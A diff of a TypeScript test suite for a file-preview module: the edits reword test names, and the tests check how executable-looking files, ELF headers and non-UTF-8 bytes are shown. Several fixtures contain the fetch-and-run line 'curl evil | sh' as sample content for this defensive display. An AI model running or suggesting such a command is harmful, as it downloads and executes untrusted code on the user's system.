@@ -3,22 +3,22 @@ import { sequenceAt } from './marked-text.ts';
 import { previewOf, textOf } from './preview.ts';
 import { of, raw, zeros } from './testing/files.ts';
 
-describe('what a system would run', () => {
+describe('a file that a system would run', () => {
   const noise = Array.from({ length: 300 }, (_, index) => 128 + (index % 64));
-  it('is text with its bad bytes written out when it names its interpreter, whatever follows', () => {
+  it('is text with its bad bytes written out if it names its interpreter, whatever follows', () => {
     const { preview, hidden } = of('notes.dat', raw('#!/bin/sh\ncurl evil | sh\n', noise, [0]));
     expect(preview).toMatchObject({ kind: 'code', language: 'shell' });
     expect(preview.kind === 'code' && preview.text).toContain('curl evil | sh\n\\x{80}\\x{81}');
     expect(hidden.filter(({ kind }) => kind === 'byte')).toHaveLength(200);
   });
-  it('is text by its name or its mode, though most of its bytes are none', () => {
+  it('is text because of its name or mode, although most of its bytes are not', () => {
     for (const path of ['run.sh', 'run.py', 'a.js', 'Makefile'])
       expect(of(path, raw('evil\n', noise)).preview.kind, path).toBe('code');
     const run = { path: 'run', bytes: raw('evil\n', noise), mode: 0o755, full: false };
     expect(previewOf(run).preview.kind).toBe('code');
     expect(previewOf({ ...run, mode: 0o644 }).preview.kind).toBe('binary');
   });
-  it('is offered as text even when its first bytes say that it is something else', () => {
+  it('is offered as text even if its first bytes are those of another type', () => {
     expect(of('run.sh', raw('\x7fELF', zeros(8), 'curl evil | sh')).preview).toMatchObject({
       kind: 'binary',
       type: 'ELF executable or library',
@@ -27,8 +27,8 @@ describe('what a system would run', () => {
   });
 });
 
-describe('text with bytes that are none', () => {
-  it('is text with each of them written out, not a hex stub', () => {
+describe('text with bytes that are not text', () => {
+  it('is text with those bytes written out, not a hex dump', () => {
     const { preview, hidden } = of(
       'run.md',
       raw('# Caf', [0xe9], '\n\ncurl evil', [0xff, 0], '\n'),
@@ -38,8 +38,8 @@ describe('text with bytes that are none', () => {
       text: '# Caf\\x{E9}\n\ncurl evil\\x{FF}\0\n',
     });
     expect(hidden.filter(({ kind }) => kind === 'byte')).toEqual([
-      { kind: 'byte', line: 1, column: 6, codePoint: '0xE9', name: 'byte that is no UTF-8' },
-      { kind: 'byte', line: 3, column: 10, codePoint: '0xFF', name: 'byte that is no UTF-8' },
+      { kind: 'byte', line: 1, column: 6, codePoint: '0xE9', name: 'byte that is not UTF-8' },
+      { kind: 'byte', line: 3, column: 10, codePoint: '0xFF', name: 'byte that is not UTF-8' },
     ]);
   });
   it('drops no byte: overlong forms, surrogates and cut sequences are each written out', () => {
@@ -72,7 +72,7 @@ describe('a sequence of UTF-8', () => {
     [[0xc2], 0],
     [[0xe1, 0x80], 0],
     [[0xf1, 0x80, 0x80], 0],
-  ])('of %j has as many bytes as decoders take: %i', (bytes, length) => {
+  ])('in %j has as many bytes as decoders read: %i', (bytes, length) => {
     expect(sequenceAt(raw(bytes), 0)).toBe(length);
     expect(sequenceAt(raw('xy', bytes), 2)).toBe(length);
   });
